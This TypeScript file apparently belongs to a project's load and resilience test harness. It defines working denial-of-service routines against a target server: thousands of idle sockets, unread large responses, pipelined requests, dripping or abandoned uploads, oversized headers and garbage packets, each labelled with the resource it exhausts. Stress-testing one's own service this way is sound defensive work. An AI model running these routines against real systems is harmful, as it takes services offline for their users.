// Attacks that use only connections: many, silent, slow, never reading.
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '#lab/prove/neighbours/attack.ts';
import { attackerAddress, type Target } from '#lab/prove/neighbours/target.ts';

/** Opens this many connections, begins on each, continues on each every 200 ms, and closes all at the end. */
async function hold(
  { origin }: Target,
  isOver: () => boolean,
  count: number,
  begin: (socket: Socket, index: number) => void,
  goOn: (socket: Socket) => void = () => {},
): Promise<number> {
  const { port, hostname } = new URL(origin);
  const sockets: Socket[] = [];
  let opened = 0;
  while (!isOver()) {
    for (let more = 0; more < 50 && sockets.length < count; more += 1) {
      const socket = connect({ port: Number(port), host: hostname, localAddress: attackerAddress });
      const index = sockets.push(socket);
      socket
        .on('error', () => {})
        .once('connect', () => {
          opened += 1;
          begin(socket, index);
        });
    }
    for (const socket of sockets) if (socket.writable && !socket.connecting) goOn(socket);
    await delay(sockets.length < count ? 10 : 200);
  }
  for (const socket of sockets) socket.destroy();
  return opened;
}

/** Sends the same bytes on a new connection repeatedly, and reads until it is closed or a moment has passed. */
async function again(
  { origin }: Target,
  isOver: () => boolean,
  atOnce: number,
  bytes: string,
): Promise<number> {
  const { port, hostname } = new URL(origin);
  let count = 0;
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      while (!isOver()) {
        const socket = connect({ port: Number(port), host: hostname, localAddress: attackerAddress });
        const { promise, resolve } = Promise.withResolvers<void>();
        socket.on('error', () => {}).on('close', () => resolve());
        socket.on('data', () => socket.destroy());
        socket.setTimeout(1_000, () => socket.destroy());
        socket.write(bytes);
        await promise;
        count += 1;
      }
    }),
  );
  return count;
}

const uploadHead = (key: string, length: number): string =>
  `POST /api/v1/upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\n` +
  `Content-Type: multipart/form-data; boundary=XX\r\nContent-Length: ${length}\r\n\r\n` +
  '--XX\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n';

export const connectionAttacks: Attack[] = [
  {
    name: '2,000 silent connections',
    resource: 'request sockets',
    run: (target, isOver) => hold(target, isOver, 2_000, () => {}),
  },
  {
    name: '200 answers of 9 MB that nobody reads',
    resource: 'request sockets',
    run: (target, isOver) =>
      hold(target, isOver, 200, (socket) =>
        socket.pause().write(`GET /f/${target.big.slug} HTTP/1.1\r\nHost: x\r\n\r\n`),
      ),
  },
  {
    name: '50 connections with 90 requests sent ahead',
    resource: 'request sockets',
    run: (target, isOver) =>
      hold(target, isOver, 50, (socket) =>
        socket.pause().write(`GET /f/${target.big.slug} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(90)),
      ),
  },
  {
    name: '200 uploads that drip',
    resource: 'request sockets',
    run: (target, isOver) =>
      hold(
        target,
        isOver,
        200,
        (socket) => socket.write(uploadHead(target.account.key, 1_000_000)),
        (socket) => socket.write('x'),
      ),
  },
  {
    name: '20 uploads of 9 MB that stop before their end',
    resource: 'disk',
    run: (target, isOver) =>
      hold(target, isOver, 20, (socket) => {
        socket.write(uploadHead(target.account.key, 9_500_000));
        socket.write(Buffer.alloc(9_000_000, 'x'));
      }),
  },
  {
    name: 'heads of 15 KB',
    resource: 'event loop',
    run: (target, isOver) =>
      again(
        target,
        isOver,
        4,
        `GET /dashboard HTTP/1.1\r\nHost: x\r\nAccept-Encoding: a${' '.repeat(15_000)}b\r\n\r\n`,
      ),
  },
  {
    name: 'packets of 60 KB that are no request',
    resource: 'event loop',
    run: (target, isOver) => again(target, isOver, 4, `FOO /${'a'.repeat(60_000)}`),
  },
];
